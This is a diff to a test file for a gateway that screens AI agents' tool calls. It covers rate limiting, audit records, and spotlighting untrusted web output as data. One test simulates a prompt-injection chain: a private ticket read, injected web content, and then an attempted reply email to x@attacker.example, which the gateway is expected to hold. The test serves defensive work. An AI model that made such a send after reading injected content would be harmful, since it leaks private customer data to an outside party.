@@ -7,7 +7,7 @@ import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
 import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import type { AuditRecord } from '../src/audit/index.js';
-import { DEMO_CRM, DEMO_EMAIL, MISBEHAVING, NODE, refusal, startGateway, textOf, type Harness } from './helpers/gateway.js';
+import { DEMO_CRM, DEMO_EMAIL, MISBEHAVING, NODE, dataOf, refusal, startGateway, textOf, type Harness } from './helpers/gateway.js';
 
 const TICKET_BODY =
   'Hello, my card statement shows two charges of $49.00 for order #58213, both on 18 November. ' +
@@ -22,6 +22,9 @@ servers:
     command: ${JSON.stringify(NODE)}
     args: [${JSON.stringify(MISBEHAVING)}]
     labels: { echo: [untrusted] }
+screening:
+  # Flow control is under test here: the untrusted web's output reaches the agent (spotlighted as data), whatever the detector makes of it.
+  servers: { web: { on_flagged: spotlight } }
 `;
 
 /** The record of the call a client made, found by its gateway call id. */
@@ -147,7 +150,7 @@ flow:
   test('trifecta: after a private read and untrusted content, a sink call is held and the audit names the tainting calls', async () => {
     const client = await h.connect('triage');
     await readTicket(client);
-    assert.equal(textOf(await client.callTool({ name: 'web__echo', arguments: { text: INJECTION } })), INJECTION);
+    assert.equal(dataOf(textOf(await client.callTool({ name: 'web__echo', arguments: { text: INJECTION } }))), INJECTION);
     // Held calls go to the approval broker (queued for an out-of-band approver by default): never executed first.
     const message = await refusal(client, 'email__send_reply_email', email('x@attacker.example', 'Here is what you asked for.'));
     assert.match(message, /-32011/);
@@ -246,7 +249,7 @@ identities:
 
   test('rate limit: calls past the bucket are refused with RATE_LIMITED and a retry-after, and never reach the server', async () => {
     const client = await h.connect('limited');
-    for (let i = 0; i < 3; i++) assert.equal(textOf(await client.callTool({ name: 'web__echo', arguments: { text: `call ${i}` } })), `call ${i}`);
+    for (let i = 0; i < 3; i++) assert.equal(dataOf(textOf(await client.callTool({ name: 'web__echo', arguments: { text: `call ${i}` } }))), `call ${i}`);
     let error: { code?: number; data?: { code?: string; retry_after_seconds?: number } } | undefined;
     try {
       await client.callTool({ name: 'web__echo', arguments: { text: 'one too many' } });
@@ -260,7 +263,7 @@ identities:
     assert.match(String((error as unknown as Error).message), /RATE_LIMITED: rate_limits\.per_session of identity limited \(3\/minute\) exhausted; retry after \d+ s/);
     // Another session of the same identity has its own bucket.
     const other = await h.connect('limited');
-    assert.equal(textOf(await other.callTool({ name: 'web__echo', arguments: { text: 'fresh' } })), 'fresh');
+    assert.equal(dataOf(textOf(await other.callTool({ name: 'web__echo', arguments: { text: 'fresh' } }))), 'fresh');
     const records = await h.auditRecords();
     assert.equal(records.filter((r) => r.type === 'result' && r.tool === 'echo' && r.session === lastCall(records, 'echo').session).length >= 1, true);
     assert.equal(records.filter((r) => r.code === 'RATE_LIMITED').length, 1);
@@ -272,7 +275,7 @@ identities:
     await readTicket(client, 'T-1002');
     for (let i = 0; i < 3; i++) assert.match(await refusal(client, 'crm__read_crm_ticket', { ticket_id: 'T-1003' }), /RATE_LIMITED: rate_limits\.per_tool "crm\.read_\*" of identity tool-limited \(2\/hour\) exhausted; retry after \d+ s/);
     // Tools outside the pattern are not limited.
-    assert.equal(textOf(await client.callTool({ name: 'web__echo', arguments: { text: 'still fine' } })), 'still fine');
+    assert.equal(dataOf(textOf(await client.callTool({ name: 'web__echo', arguments: { text: 'still fine' } }))), 'still fine');
     await new Promise((r) => setTimeout(r, 50));
     const records = await h.auditRecords();
     const alerts = records.filter((r) => r.type === 'alert' && r.identity === 'tool-limited');
